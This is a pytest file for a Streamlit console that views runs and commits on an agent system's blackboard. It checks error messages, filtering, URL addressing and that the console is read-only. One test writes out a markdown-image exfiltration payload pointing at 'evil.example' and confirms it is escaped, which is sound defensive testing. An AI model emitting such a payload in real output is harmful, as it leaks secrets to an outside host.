"""Every page of the console draws without an exception, on a full, an empty, a missing and a broken board."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from streamlit.testing.v1 import AppTest

import agentsys.ui
from agentsys.blackboard.board import Board
from agentsys.ui.screens.addresses import BLACKBOARD_PAGE, RUN_PAGE, RUNS_PAGE

ASKED = {"question": "How many are there?", "number": 21}
Browse = Callable[..., AppTest]
SCREENS = [RUNS_PAGE, RUN_PAGE, BLACKBOARD_PAGE]


@pytest.fixture
def browse(path, monkeypatch) -> Browse:
    """Open one page as a browser that is new to the console opens its URL."""
    monkeypatch.setenv("AGENTSYS_BOARD__PATH", str(path))

    def open_page(screen: str = RUNS_PAGE, **parameters: str) -> AppTest:
        app = AppTest.from_file(f"{agentsys.ui.__path__[0]}/app.py", default_timeout=30).run()
        app.switch_page(screen)
        for name, value in parameters.items():
            app.query_params[name] = value
        app.run()
        assert [error.value for error in app.exception] == []
        return app

    return open_page


def said(app: AppTest) -> str:
    """Return all text of the page without the backslashes of escaping."""
    pieces = [*app.markdown, *app.caption, *app.info, *app.error, *app.warning, *app.subheader, *app.text]
    return "\n".join(str(piece.value) for piece in pieces).replace("\\", "")


@pytest.mark.parametrize("screen", SCREENS)
def test_a_missing_board_names_the_command(browse, path, screen):
    app = browse(screen)
    assert f"There is no board at {path}" in said(app)
    assert "agentsys ask" in app.code[0].value


@pytest.mark.parametrize("screen", SCREENS)
def test_an_empty_board_names_the_command(browse, recorded, screen):
    app = browse(screen)
    assert "is empty" in said(app)
    assert "agentsys ask" in app.code[0].value


@pytest.mark.parametrize("screen", SCREENS)
def test_a_file_that_is_no_board_is_told(browse, path, screen):
    path.parent.mkdir()
    path.write_text("Dear board, " * 500)
    app = browse(screen)
    assert "AGS-0202" in said(app)


def test_a_recorded_run_stands_in_until_there_is_a_board(browse, path):
    app = browse()
    assert "a recorded run" in said(app)
    assert len(app.page_link) == 2
    assert not path.exists()


def test_a_board_made_later_appears(browse, path):
    browse()
    Board.open(path).close()
    assert "is empty" in said(browse())


def test_runs_are_listed_with_status_and_label(browse, recorded):
    recorded.run("question", ASKED)
    recorded.run("fails", "x")
    app = browse()
    assert [link.label.replace("\\", "") for link in app.page_link] == ["x", "How many are there?"]
    assert "[failed]" in said(app)
    assert "[done]" in said(app)
    assert "readable by user:owner" in said(app)


def test_more_runs_are_shown_on_demand(browse, recorded):
    for number in range(22):
        recorded.run("fails", number)
    app = browse()
    assert len(app.page_link) == 20
    app.button[0].click().run()
    assert len(app.page_link) == 22
    assert not app.button


def test_a_run_is_addressed_by_its_url(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(RUN_PAGE, run=run)
    text = said(app)
    assert "How many are there?" in text
    assert "### 42" in text
    assert app.code[0].value == "SELECT 2 * 21"
    tables = [table.value.to_dict("records") for table in app.dataframe]
    assert {"family": "airports", "files": "airports.csv", "columns": "state, name"} in tables[0]
    assert [bid["agent"] for bid in tables[1]] == ["eager", "crashing"]
    assert "out of paper" in text


def test_a_failed_run_shows_why(browse, recorded):
    app = browse(RUN_PAGE, run=recorded.run("fails", "x").run)
    assert "nothing to divide" in said(app)


def test_an_unknown_run_is_told(browse, recorded):
    recorded.run("fails", "x")
    app = browse(RUN_PAGE, run="nobody")
    assert "AGS-0601" in said(app)


def test_commits_are_listed_and_filtered_by_run(browse, recorded):
    first = recorded.run("question", ASKED).run
    recorded.run("fails", "x")
    app = browse(BLACKBOARD_PAGE)
    everything = app.dataframe[0].value
    assert list(everything["commit"]) == list(range(recorded.board.head, 0, -1))
    app = browse(BLACKBOARD_PAGE, run=first)
    assert set(app.dataframe[0].value["run"]) == {first}


def test_a_commit_is_addressed_by_its_url(browse, recorded):
    recorded.run("question", ASKED)
    app = browse(BLACKBOARD_PAGE, commit="2")
    assert "Commit 2 by agent:question" in said(app)
    app = browse(BLACKBOARD_PAGE, commit="999")
    assert "not 999" in said(app)


def test_entries_are_shown_as_they_stood_after_a_commit(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(BLACKBOARD_PAGE, at="1")
    (entry,) = app.dataframe[0].value.to_dict("records")
    assert (entry["topic"], entry["key"], entry["version"], entry["commit"]) == ("runs", run, 1, 1)
    assert '"finished": null' in entry["value"]
    later = browse(BLACKBOARD_PAGE, at=str(recorded.board.head)).dataframe[0].value
    assert len(later) > 1
    assert "not 999" in said(browse(BLACKBOARD_PAGE, at="999"))


def test_what_agents_wrote_never_becomes_markdown(browse, recorded):
    recorded.run("fails", "![x](http://evil.example/?secret)")
    app = browse()
    shown = [*(link.label for link in app.page_link), *(str(piece.value) for piece in app.markdown)]
    assert not any("](http" in text for text in shown)
    assert any(r"\!\[x\]\(http\:" in text for text in shown)


def test_the_console_writes_nothing(browse, recorded):
    run = recorded.run("question", ASKED).run
    head = recorded.board.head
    for screen in SCREENS:
        browse(screen, run=run)
    assert recorded.board.head == head
    assert recorded.board.epoch == 1
